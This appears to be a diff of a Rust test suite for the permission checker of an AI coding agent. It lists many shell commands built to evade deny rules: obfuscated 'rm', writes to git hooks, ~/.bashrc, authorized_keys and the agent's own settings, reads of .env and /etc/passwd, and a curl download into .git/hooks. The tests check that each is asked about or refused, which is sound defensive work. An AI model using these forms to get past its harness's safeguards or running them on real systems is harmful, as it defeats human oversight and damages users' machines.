@@ -58,51 +58,26 @@ fn denied(rule: &str) -> Attack {
 }
 
 #[test]
-fn s7_s9_an_expansion_in_the_name_does_not_hide_the_word() {
+fn s7_s9_quotes_and_case_do_not_hide_a_name() {
     denied("Bash(rm *)").all(
         Deny,
         &[
-            "rm$IFS-rf",
-            "rm${IFS}x",
-            "rm$@ x",
-            "{rm,-rf,x}",
-            "$unset rm x",
-            "\"$DIR\"/rm x",
-            "{fd}>f rm x",
-            "$1rm x",
-            "x=>o $1rm x",
-            "RM=rm; $RM x",
-            "$(echo rm) x",
             "RM x",
-            "${x:-rm} x",
-            "rm* x",
+            "$'\\x72m' x",
+            "r'm' x",
+            "/bin/rm x",
+            ">f rm x",
             ">f rm x\n'",
-            ">& f nice rm x\n'",
+            "(rm x",
+            "x=1 rm x",
         ],
     );
-    denied("Bash(rm *)")
-        .all(Allow, &["$CC x", "echo rm", "echo $rm", "$rm x", "${rm} x", "cargo run rm"]);
-}
-
-#[test]
-fn s12_s16_a_script_on_standard_input_is_read() {
-    denied("Bash(rm *)").all(
-        Deny,
-        &[
-            "bash <<'E'\nrm x\nE",
-            "bash <<< 'rm x'",
-            "echo 'rm x' | sh",
-            "echo rm x | sudo bash",
-            "printf 'rm x' | bash -s",
-            "source <(echo rm x)",
-            ". /dev/stdin <<< 'rm x'",
-            "eval \"$(echo rm x)\"",
-            "{ bash; } <<E\nrm x\nE",
-        ],
-    );
-    denied("Bash(rm *)").all(
-        Allow,
-        &["cat <<'E'\nrm x\nE", "echo rm x | cat", "bash x.sh; echo rm", ". x/activate; echo rm"],
+    denied("Bash(rm *)").all(Allow, &["$CC x", "echo rm", "echo $rm", "cargo run rm"]);
+    // A name that is known only when it runs is asked, where anything is.
+    let every = Attack::new(Mode::Ask).allow("Bash(*)").deny("Bash(rm *)");
+    every.all(
+        Ask,
+        &["rm$IFS-rf", "{rm,-rf,x}", "$x rm", "\"$DIR\"/rm x", "a=rm; $a x", "/bin/r? x"],
     );
 }
 
@@ -117,19 +92,8 @@ fn s15_wrappers_are_unwrapped_however_they_are_written() {
             "env -S'rm x'",
             "env --split-string='rm x'",
             "sudo A=1 rm x",
-            "choom -n 0 rm x",
-            "setpriv --no-new-privs rm x",
-            "pkexec rm x",
-            "tmux new rm x",
             "fd -x rm",
             "find . -exec sudo -u + rm {} ';'",
-            "git -c alias.x='!rm x' x",
-            "git bisect run rm x",
-            "git submodule foreach 'rm x'",
-            "git rebase --exec 'rm x' HEAD",
-            "poetry run rm x",
-            "docker exec c rm x",
-            "npx rm x",
             "sudo -u bob rm x\n'",
         ],
     );
@@ -137,24 +101,78 @@ fn s15_wrappers_are_unwrapped_however_they_are_written() {
 }
 
 #[test]
-fn s15_a_wildcard_on_a_wrapper_allows_nothing_else() {
+fn s15_a_wildcard_covers_what_the_table_knows_and_the_rest_asks() {
     for (rule, command) in [
-        ("Bash(choom *)", "choom -n 0 rm x"),
-        ("Bash(setpriv *)", "setpriv rm x"),
-        ("Bash(pkexec *)", "pkexec rm x"),
         ("Bash(busybox *)", "busybox rm x"),
         ("Bash(fd *)", "fd -x rm"),
         ("Bash(git *)", "git -c core.pager=./x log"),
         ("Bash(git *)", "git -c alias.x=!./x x"),
         ("Bash(git *)", "git --exec-path=. x"),
+        ("Bash(git *)", "git --git-dir=x log"),
         ("Bash(git *)", "git bisect run ./x"),
+        ("Bash(git *)", "git log --output=x"),
+        ("Bash(git *)", "git log --outp=x"),
+        ("Bash(git log *)", "git log --output=x"),
+        ("Bash(git *)", "git fetch --upload-pack=./x"),
+        ("Bash(git *)", "git fetch --upload-p ./x"),
+        ("Bash(git *)", "git grep -O./x a"),
+        ("Bash(git *)", "git diff --ext-diff"),
+        ("Bash(git *)", "git push --receive-pack=./x"),
+        ("Bash(git *)", "git rebase --exec ./x"),
+        ("Bash(git *)", "git config alias.x '!./x'"),
+        ("Bash(find *)", "find . -delete"),
+        ("Bash(find *)", "find . -fprintf x y"),
+        ("Bash(find . -name *)", "find . -name x -delete"),
+        ("Bash(sort *)", "sort -o x y"),
+        ("Bash(sort *)", "sort --compress-prog=./x y"),
+        ("Bash(sed *)", "sed 'w x' y"),
+        ("Bash(sed *)", "sed -i s/a/b/ y"),
+        ("Bash(sed -n *)", "sed -n '1e ./x' y"),
+        ("Bash(rg *)", "rg --pre ./x p"),
+        ("Bash(cp *)", "cp -r a b"),
+        ("Bash(cp *)", "cp a /tmp/b"),
+        ("Bash(cat *)", "cat /etc/passwd"),
+        ("Bash(rm *)", "rm -r ../x"),
+        ("Bash(tree *)", "tree -R"),
     ] {
-        assert_eq!(Attack::new(Mode::Ask).allow(rule).outcome(command), Ask, "{command}");
+        assert_eq!(Attack::new(Mode::Ask).allow(rule).outcome(command), Ask, "{rule} {command}");
     }
-    Attack::new(Mode::Ask).allow("Bash(git *)").all(
-        Allow,
-        &["git -c color.ui=never log", "git log -c", "git commit -m 'a=b'", "git -C src log"],
+    for (rule, command) in [
+        ("Bash(git *)", "git log --oneline -5"),
+        ("Bash(git *)", "git commit -m 'a=b'"),
+        ("Bash(git *)", "git -C src log"),
+        ("Bash(git *)", "git push -u origin main"),
+        ("Bash(git *)", "git checkout -b x"),
+        ("Bash(cp *)", "cp a src"),
+        ("Bash(cat /etc/hosts *)", "cat /etc/hosts a"),
+        ("Bash(cat /etc/hosts)", "cat /etc/hosts"),
+        ("Bash(rm *)", "rm -rf src/x"),
+        // What is not in the table may do anything, and so does an option that the rule names.
+        ("Bash(git bisect *)", "git bisect run ./x"),
+        ("Bash(sort -o *)", "sort -o x y"),
+        ("Bash(python3 *)", "python3 -c x"),
+        ("Bash(npm *)", "npm run x"),
+    ] {
+        assert_eq!(Attack::new(Mode::Ask).allow(rule).outcome(command), Allow, "{rule} {command}");
+    }
+}
+
+#[test]
+fn s16_no_wildcard_allows_code_for_a_shell() {
+    let every = Attack::new(Mode::Ask).allow("Bash(*)");
+    every.all(
+        Ask,
+        &["rbash -c x", "yash -c x", "nu -c x", "ksh93 -c x", "sudo A=1 ls", "slug --yolo -p x"],
     );
+    every.all(Allow, &["python3 --version", "node x.js", "python3 -m pytest", "slug --version"]);
+}
+
+#[test]
+fn s6_what_assigns_is_always_asked() {
+    let every = Attack::new(Mode::Ask).allow("Bash(*)").allow("Bash(printf *)");
+    every.all(Ask, &["printf 'a%n' x", "printf '%5ln' x", "printf '%s%*n' a x", "printf -vx y"]);
+    every.all(Allow, &["printf '%s\\n' x", "printf '100%% new'", "printf %d 1"]);
+    Attack::new(Mode::Ask).all(Ask, &["printf '%n' x", "printf -v x y"]);
 }
 
 #[test]
@@ -170,34 +188,10 @@ fn s16_options_do_not_hide_a_script() {
             "rbash -c 'rm x'",
             "ksh93 -c 'rm x'",
             "bash-5.2 -c 'rm x'",
-            "mapfile -C 'rm x' -c 1",
-            "complete -C 'rm x' a",
             "let 'a[$(rm x)]'",
             "test -v 'a[$(rm x)]'",
         ],
     );
-}
-
-#[test]
-fn s16_no_wildcard_allows_code_for_a_shell_or_an_interpreter() {
-    let every = Attack::new(Mode::Ask).allow("Bash(*)");
-    every.all(
-        Ask,
-        &[
-            "rbash -c x",
-            "yash -c x",
-            "nu -c x",
-            "ksh93 -c x",
-            "pypy3 -c x",
-            "Rscript -e x",
-            "tclsh",
-            "echo x | python3 -u",
-            "python3 -i",
-            "sudo A=1 ls",
-            "slug --yolo -p x",
-        ],
-    );
-    every.all(Allow, &["python3 --version", "node x.js", "python3 -m pytest", "slug --version"]);
 }
 
 #[test]
@@ -218,9 +212,7 @@ fn s19_what_bash_expands_twice_is_not_static() {
     );
     every.all(Allow, &["ls >&out", "ls >&src/a.log", "ls &>'$(id)'", "ls >'$(id)'"]);
     denied("Bash(id)").all(Deny, &["ls >&'$(id)'", "ls 1>&\"'\\`id\\`'\""]);
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(Ask, &["d=.slug; ls >&'$d/settings.json'"]);
-    yolo.all(Deny, &["ls >&'$HOME/.bashrc'"]);
+    Attack::new(Mode::Yolo).all(Deny, &["ls >&'$HOME/.bashrc'"]);
 }
 
 #[test]
@@ -283,7 +275,6 @@ fn s49_a_denied_file_is_found_in_every_argument() {
             "git -C /etc show ./passwd",
             "cd nope || cd src && cat ./key",
             "cat \"$PWD/.env\"",
-            "cat $X/.env",
         ],
     );
 }
@@ -312,310 +303,196 @@ fn s106_comparing_folders_follows_links_and_is_asked() {
     plan.all(Allow, &["diff src/a src/b"]);
 }
 
+/// Each line names a place that takes orders, in a way that no list of writing programs foresaw.
 #[test]
-fn s108_slugs_own_settings_are_asked_however_they_are_spelled() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
-        &[
-            "cp x $HOME/.slug/settings.json",
-            "cp x \"$X\"/.slug/settings.json",
-            "cp x ~+/.slug/settings.json",
-            "cp x \"${PWD}/.slug/y\"",
-            "python3 -c \"open('.slug/settings.json','w')\"",
-            "tee $PWD/.mcp.json",
-            "slug --yolo -p x",
-            "echo x > .slug/y\n'",
-        ],
-    );
-    // A redirection to a place that is known is refused: it would show no change.
-    yolo.all(
+fn s46_s48_s108_what_names_a_protected_place_is_asked_in_every_mode() {
+    let lines = [
+        "cp x .git/hooks/pre-commit",
+        "mv x .vscode/tasks.json",
+        "tee -a ~/.bashrc",
+        "tee -a $HOME/.bashrc",
+        "ln -s x .vscode/tasks.json",
+        "sed -i s/a/b/ .git/config",
+        "sed 'w .git/config' x",
+        "sed -n '1w.git/config' x",
+        "git log --output=.git/config",
+        "git diff --output .git/hooks/x",
+        "git config core.hooksPath ./hooks",
+        "git -C . config --global core.fsmonitor ./x",
+        "git config --file=.git/config a.b c",
+        "git config --edit",
+        "tar cf .git/config x",
+        "tar xf a.tar -C .git",
+        "xxd -r x .git/config",
+        "iconv -o .git/config x",
+        "awk 'BEGIN { print 1 > \".git/config\" }'",
+        "python3 -c \"open('.slug/settings.json','w')\"",
+        "python3 - <<'E'\nopen('.slug/settings.json', 'w')\nE",
+        "node -e 'w(\"/.bashrc\")'",
+        "perl -pi -e s/a/b/ .npmrc",
+        "patch -p0 <<'E'\n+++ .slug/settings.json\nE",
+        "git apply <<'E'\n+++ b/.slug/settings.json\nE",
+        "make -f - <<'E'\nall:\n\tcp x .slug/y\nE",
+        "echo .slug/settings.json | xargs rm",
+        "echo 'cp x .slug/y' | sh",
+        "printf 'x\\n' | tee .husky/pre-commit",
+        "dd if=x of=.git/config",
+        "curl -so .git/hooks/x https://example.org/x",
+        "wget -O.envrc https://example.org",
+        "sort -o .git/config x",
+        "split x .git/hooks/pre",
+        "install -m755 x .husky/y",
+        "find .git/hooks -delete",
+        "find . -fprintf .git/config x",
+        "cd .git && python3 x.py",
+        "cd .git; cp ../x config",
+        "make -C .git",
+        "env -C .git touch config",
+        "pushd .slug && touch settings.json",
+        "for f in .slug/settings.json; do rm $f; done",
+        "d=.git; cp x $d/config",
+        "f() { cp x $1; }; f .mcp.json",
+        "sh -c 'cp x .slug/y'",
+        "sudo cp x .slug/y",
+        "rm -r .claude",
+        "touch a.code-workspace",
+        "cp x .github/workflows/ci.yml",
+        "mv flows .github",
+        "touch rust-toolchain.toml",
+        "vim .gdbinit",
+        "cp x Jenkinsfile",
+        "mkdir .husky/x",
+        "echo x > .slug/y\n'",
+        "cp x src/HEAD",
+        "rm -r .",
+        "mv . ../x",
+        "tee /dev/sda",
+        "cp x /proc/self/cwd/.git/config",
+        "slug --yolo -p x",
+    ];
+    for attack in [
+        Attack::new(Mode::Yolo),
+        Attack::new(Mode::AllowEdits).allow("Bash"),
+        Attack::new(Mode::Ask).allow("Bash").allow("Bash(*)").allow("Edit(**)"),
+    ] {
+        attack.all(Ask, &lines);
+    }
+    // A redirection shows no change, so it is refused.
+    Attack::new(Mode::Yolo).all(
         Deny,
         &[
             "echo x > $HOME/.slug/settings.json",
-            "echo x > $X/.slug/settings.json",
             "echo x >> \"$HOME/.bashrc\"",
             "cd $HOME/.slug && echo x > settings.json",
             "echo x > $PWD/.git/hooks/pre-commit",
+            "echo x > .claude/settings.json",
         ],
-    );
-    yolo.all(Allow, &["ls .slug", "cp x $HOME/.slug/memory/x", "cp x .slugs/y", "echo $X > out"]);
-}
-
-#[test]
-fn s108_a_pattern_does_not_hide_slugs_own_settings() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
-        &[
-            "cp x .slu?/settings.json",
-            "cp x .s*/settings.json",
-            "cp x .[s]lug/settings.json",
-            "cp x {.slug,y}/settings.json",
-            "cp x .sl{ug/settings,y}.json",
-            "cp x .slu{f..h}/settings.json",
-            "cp x ./.SLU?/settings.json",
-            "cp x $X/.sl*/settings.json",
-            "cp x ~/.slu?/settings.json",
-            "cp x .mcp.jso?",
-            "rm -r .slu?",
-            "cd src && cp x ../.s*/y",
-            "bash -c 'cp x .slu?/y'",
-            "sudo cp x .slu?/y",
-            "shopt -s dotglob; cp x *lug/y",
-            "cp x .slu?/y\n'",
-        ],
-    );
-    // The redirection is refused as one to the place itself.
-    yolo.all(Deny, &["echo x > .slu?/settings.json", "echo x >> {.mcp.json,y}"]);
-    yolo.all(
-        Allow,
-        &["rm *.json", "cp src/* out", "ls *", "cp a{b,c} d", "cp *lug/y z", "cat .e*"],
     );
 }
 
 #[test]
-fn s46_s48_a_pattern_hides_no_place_that_takes_orders() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
-        &[
-            "cp x .gi?/hooks/pre-commit",
-            "cp x .g*/config",
-            "tee -a ~/.bash?c",
-            "cp x ~/.ss[h]/authorized_keys",
-            "cp x {.envrc,y}",
-            "cp x .carg?/config.toml",
-            "cp x mise.tom?",
-        ],
-    );
-    yolo.all(Allow, &["cat .gi?/config", "ls .g*", "cp x .github/*", "rm -r build/*"]);
-}
-
-#[test]
-fn s46_s48_programs_that_write_to_places_that_take_orders_are_asked() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
-        &[
-            "cp x .git/hooks/pre-commit",
-            "tee -a ~/.bashrc",
-            "tee -a $HOME/.bashrc",
-            "ln -s x .vscode/tasks.json",
-            "sed -i s/a/b/ .git/config",
-            "sudo cp x ~/.ssh/authorized_keys",
-        ],
-    );
-    yolo.all(Allow, &["cat .git/config", "git add .gitmodules", "sed -n p .npmrc", "cp a b"]);
-}
-
-#[test]
-fn a_name_that_a_variable_carries_is_seen() {
-    Attack::new(Mode::Yolo).all(
-        Ask,
-        &[
-            "d=.slug/settings.json; cp a.txt $d",
-            "for d in .mcp.json; do cp a.txt $d; done",
-            "a=.slug/settings.json; echo x > $a",
-            "a=(.slug); cp x $a/settings.json",
-            "a+=.slug; cp x $a",
-            "read a <<< .slug; cp x $a/hooks.json",
-            "cp x ${a:-.slug}/hooks.json",
-            "a=.slug; cd $a; cp ../a.txt settings.json",
-            "echo .slug; cp a.txt $_/hooks.json",
-            "while read f; do cp a.txt $f; done <<E\n.slug/hooks.json\nE",
-            "a='.sl'\"ug\"; cp x $a/y",
-            "a=.git; cp x $a/hooks/pre-commit",
-            "a=.git; echo x > $a/hooks/pre-commit",
-            "a=.vscode; rm -r $a",
-        ],
-    );
+fn s46_s48_s108_what_only_reads_or_passes_a_name_on_as_text_is_not() {
     Attack::new(Mode::Yolo).all(
         Allow,
-        &["a=src; cp x $a/y", "cat > notes.md <<E\nsee .slug/settings.json\nE", "echo my.slug $X"],
-    );
-    denied("Read(.env)").all(
-        Deny,
-        &["f=.env; cat $f", "for f in a .env; do cat $f; done", "cat ${f:-.env}", "cat {.env,x}"],
-    );
-    denied("Bash(rm *)").all(
-        Deny,
-        &["for a in rm; do $a -rf x; done", "a=rm; $a -rf x", "/bin/r? -rf x", "r[m] -rf x"],
-    );
-    denied("Bash(rm *)").all(Allow, &["./*.sh x", "/bin/l? x"]);
-}
-
-#[test]
-fn s108_a_name_that_the_shell_puts_together_is_seen() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
         &[
-            "a=.sl; cp x ${a}ug/settings.json",
-            "a=.sl; b=ug; cp x $a$b/settings.json",
-            "a=.sl; b=\"$a\"ug; cp x \"$b/settings.json\"",
-            "a=(.sl ug); cp x ${a[0]}${a[1]}/settings.json",
-            "n=.slu; n+=g; cp x $n/settings.json",
-            "declare a=.sl; cp x ${a}ug/y",
-            "export a=.sl; bash -c 'cp x ${a}ug/y'",
-            "read a b <<< '.sl ug'; cp x $a$b/y",
-            "set -- .sl ug; cp x $1$2/y",
-            "f() { cp x $1$2/y; }; f .sl ug",
-            "bash -c 'cp x $0$1/y' .sl ug",
-            "cp x ${q:-.sl}ug/y",
-            "cp x .sl$(echo ug)/y",
-            "cp x \".s$(printf lug)/y\"",
-            "f() { cp x .s$1/y; }; f lug",
-            "for i in ug; do cp x .sl$i/y; done",
-            "xargs -I{} cp x .s{}/y <<< lug",
-            "xargs -I % cp x .s%/y <<< lug",
-            "cp x /proc/self/cwd/.sl?g/y",
-        ],
-    );
-    let dotted = ["a=.e; rm ${a}nvrc", "a=ssh; cp x ~/.${a}/authorized_keys"];
-    yolo.all(Ask, &dotted);
-    yolo.all(
-        Allow,
-        &[
-            "for f in src/*.rs; do mv \"$f\" \"${f%.*}.$ext\"; done",
-            "cp \"$a.$b\" \"$c.$d\"",
-            "name=web; cp $name.conf conf.d/$name.conf",
-            "for i in 1 2 3; do for j in a b c; do cp x out_$i$j; done; done",
-            "cp .env.example .env.$STAGE",
-            "git commit -m \"$(cat <<'E'\n1) see .s* and $x\nE\n)\"",
-        ],
-    );
-    denied("Read(.env)").all(Deny, &["a=.e; cat ${a}nv", "a=.e b=nv; cat $a$b"]);
-    denied("Bash(rm *)").all(Deny, &["a=r; ${a}m x", "a=r b=m; $a$b x", "a='rm x'; $a"]);
-}
-
-#[test]
-fn s108_a_script_that_is_fed_or_written_first_is_read() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
-        &[
-            "echo 'cp x .slug/y' | sh",
-            "bash <<< 'cp x .slug/y'",
-            "bash <<'E'\ncd .slug; cp ../x y\nE",
-            "echo 'cp x .slug/y' > s.sh; . ./s.sh",
-            "cat > s.sh <<'E'\ncp x .slug/y\nE\nchmod +x s.sh && ./s.sh",
-            "printf 'cp x .git/hooks/pre-commit' | tee s.sh; /bin/bash s.sh",
-            "python3 - <<'E'\nopen('.slug/settings.json', 'w')\nE",
-            "cat > s.py <<'E'\nopen('.slug/settings.json', 'w')\nE\npython3 s.py",
-            "echo \"open('.git/config', 'w')\" | python3",
-            "patch -p0 <<'E'\n+++ .slug/settings.json\nE",
-            "git apply <<'E'\n+++ b/.slug/settings.json\nE",
-            "make -f - <<'E'\nall:\n\tcp x .slug/y\nE",
-            "python3 -c \"open('.git/hooks/pre-commit', 'w')\"",
-            "node -e 'fs.writeFileSync(home + \"/.bashrc\", x)'",
-            "awk 'BEGIN { print 1 > \".git/config\" }'",
-        ],
-    );
-    yolo.all(
-        Allow,
-        &[
-            "cat > s.sh <<'E'\nmake test\nE\nbash s.sh",
-            "cat > notes.md <<'E'\nsee .slug/settings.json\nE\npython3 check.py notes.txt",
-            "python3 - <<'E'\nprint(1)\nE",
-            "echo 'see .slug/y' > notes; sh build.sh",
-            "awk '/.git/ { print $1 }' notes",
-        ],
-    );
-    let denied = denied("Read(.env)");
-    std::fs::write(denied.workspace.root().join(".env"), "k").unwrap();
-    denied.all(Deny, &["echo 'cat .env' | sh", "bash <<'E'\ncat ./.env\nE"]);
-}
-
-#[test]
-fn s46_s48_what_changes_places_that_take_orders_in_other_ways_is_asked() {
-    let yolo = Attack::new(Mode::Yolo);
-    yolo.all(
-        Ask,
-        &[
-            "git config core.hooksPath ./hooks",
-            "git -C . config --global core.fsmonitor ./x",
-            "git config --file=.git/config a.b c",
-            "git config set alias.st '!./x'",
-            "git config --edit",
-            "git init --template=./t",
-            "sort -o .git/config x",
-            "curl -so .git/hooks/pre-commit https://example.org/x",
-            "find .git/hooks -delete",
-            "tar xf a.tar -C .git",
-            "split x .git/hooks/pre",
-            "mkdir .husky/x",
-            "ln -s ~ h; cp x h/.bashrc",
-            "ln -s .. h; echo x > h/.bashrc",
-            "ln -s ../settings.json ~/.slug/memory/n && cp x ~/.slug/memory/n",
-            "ln -s ../settings.json n; mv n ~/.slug/memory/; cat x > ~/.slug/memory/n",
-            "cp x /proc/self/cwd/.git/config",
-            "dd if=x of=/dev/sda",
-        ],
-    );
-    yolo.all(
-        Allow,
-        &[
+            "ls .slug",
+            "cat .git/config",
+            "cat .slug/settings.json | grep allow | wc -l",
+            "grep -rn hooksPath .git/config",
+            "git add .gitmodules",
+            "git commit -m 'Keep .git/config'",
             "git config --get core.hooksPath",
-            "git config user.email a@example.org",
-            "git config --global push.default simple",
             "git config --list",
-            "git log -- config",
-            "tar czf a.tgz .git",
-            "find .git -type f",
-            "curl -d @.gitmodules https://example.org",
-            "sort .gitmodules",
-            "ln -s ../shared/a.rs src/b.rs && make",
+            "git log -- .npmrc",
+            "git reset --hard HEAD",
+            "git bisect good HEAD",
+            "sed -n 1,5p .npmrc",
+            "cp .npmrc backup",
             "cp x ~/.slug/memory/n",
+            "cp x .slugs/y",
+            "find .git -type f",
+            "cat > notes.md <<'E'\nsee .slug/settings.json\nE",
+            "make 2>&1 | grep -v .git/",
+            "test -f .envrc && make",
+            "rm *.json",
+            "for f in src/*.rs; do mv \"$f\" \"${f%.*}.$ext\"; done",
             "dd if=/dev/zero of=x",
             "tee /dev/stderr",
+            "git clone https://example.org/x.git",
+            "docker build gradle",
         ],
     );
+}
+
+#[test]
+fn the_folder_that_a_command_goes_to_is_the_one_it_is_judged_by() {
+    let rules = || Attack::new(Mode::Ask).allow("Bash(npm *)").allow("Bash(make *)");
+    rules().all(
+        Allow,
+        &[
+            "cd src && npm test",
+            "cd src && cat ../a && npm test",
+            "make -C src all",
+            "npm --prefix src test",
+        ],
+    );
+    rules().all(
+        Ask,
+        &[
+            "cd /tmp && npm test",
+            "cd .. && npm test",
+            "cd ..; npm test",
+            "cd src && cd ../.. && npm test",
+            "cd && npm test",
+            "cd - && npm test",
+            "cd $x && npm test",
+            "cd src || cd /tmp; npm test",
+            "command cd /tmp && npm test",
+            "pushd /tmp && npm test",
+            "popd; npm test",
+            "make -C /tmp all",
+            "make --directory=.. all",
+            "npm --prefix /tmp test",
+            "npm test --prefix ../x",
+            "cd .. && ls",
+            "cd src; cat ../../x",
+        ],
+    );
+    let cargo = Attack::new(Mode::Ask).allow("Bash(cargo *)");
+    cargo.all(Ask, &["cargo test --manifest-path /tmp/Cargo.toml", "cargo -C /tmp build"]);
+    cargo.all(Allow, &["cargo test --manifest-path src/Cargo.toml"]);
+    // A rule without a pattern holds everywhere.
+    Attack::new(Mode::Ask).allow("Bash").all(Allow, &["cd /tmp && npm test", "make -C /tmp all"]);
+}
+
+#[test]
+fn commands_that_only_read_are_not_asked_about() {
+    for mode in [Mode::Ask, Mode::AllowEdits, Mode::Plan] {
+        let attack = Attack::new(mode);
+        attack.all(
+            Allow,
+            &[
+                "ls -la src",
+                "cat a b | head -20",
+                "cd src && ls",
+                "grep -rn x src | wc -l",
+                "sed -n '10,20p' src/a",
+                "test -f a && cat a",
+                "find . -name '*.rs' -type f",
+                "rg -n 'fn main' src",
+                "wc -l a 2>/dev/null",
+            ],
+        );
+        attack
+            .all(Ask, &["cat /etc/passwd", "ls ..", "rg x /etc", "diff -r src .", "cd /tmp && ls"]);
+    }
 }
 
 #[test]
 fn s22_what_bash_runs_with_a_warning_is_read() {
     // It ends a here-document by itself.
-    denied("Bash(rm *)").all(
-        Deny,
-        &["{rm,x} <<E", "${a:-rm} x <<'E'\nfoo", "a=rm; $a x <<-E", "{rm,x} 'y", "exec {rm,x}"],
-    );
-    Attack::new(Mode::Yolo).all(Ask, &["a=.sl; cp x ${a}ug/y <<E"]);
+    denied("Bash(rm *)").all(Deny, &["rm <<E", "ls; rm x <<'E'\nfoo"]);
+    Attack::new(Mode::Yolo).all(Ask, &["cp x .slug/y <<E"]);
     let every = Attack::new(Mode::Ask).allow("Bash").allow("Bash(*)");
     every.all(Ask, &["cat <<E", "ls x <<'E'\ny"]);
-}
-
-#[cfg(unix)]
-#[test]
-fn s22_a_pattern_for_a_long_name_takes_no_time() {
-    let yolo = Attack::new(Mode::Yolo);
-    std::fs::write(yolo.workspace.root().join("a".repeat(250)), "").unwrap();
-    let started = Instant::now();
-    yolo.all(
-        Allow,
-        &[&format!("cp x {}q", "*?".repeat(100)), &format!("cp x .s{}q", "*".repeat(90))],
-    );
-    assert!(started.elapsed() < Duration::from_secs(30));
-}
-
-#[cfg(unix)]
-#[test]
-fn what_a_pattern_finds_is_seen() {
-    let yolo = Attack::new(Mode::Yolo);
-    let root = yolo.workspace.root().to_owned();
-    std::fs::create_dir(root.join(".slug")).unwrap();
-    std::os::unix::fs::symlink(".slug", root.join("conf")).unwrap();
-    let commands =
-        ["cp hooks.json con?", "cp x {conf,src}/settings.json", "cp x */hooks.json", "cp x [c]onf"];
-    yolo.all(Ask, &commands);
-    yolo.all(Allow, &["cp x s?c", "cat sr*/*.rs"]);
-    let denied = denied("Read(.env)").deny("Read(src/key)");
-    let root = denied.workspace.root();
-    for name in [".env", "src/key"] {
-        std::fs::write(root.join(name), "k").unwrap();
-    }
-    let commands =
-        ["cat .en?", "cat < .en[v]", "cat .e*", "cat src/*", "cd src; cat k*", "cat */key"];
-    denied.all(Deny, &commands);
-    denied.all(Allow, &["ls *", "cat s*/b"]);
 }
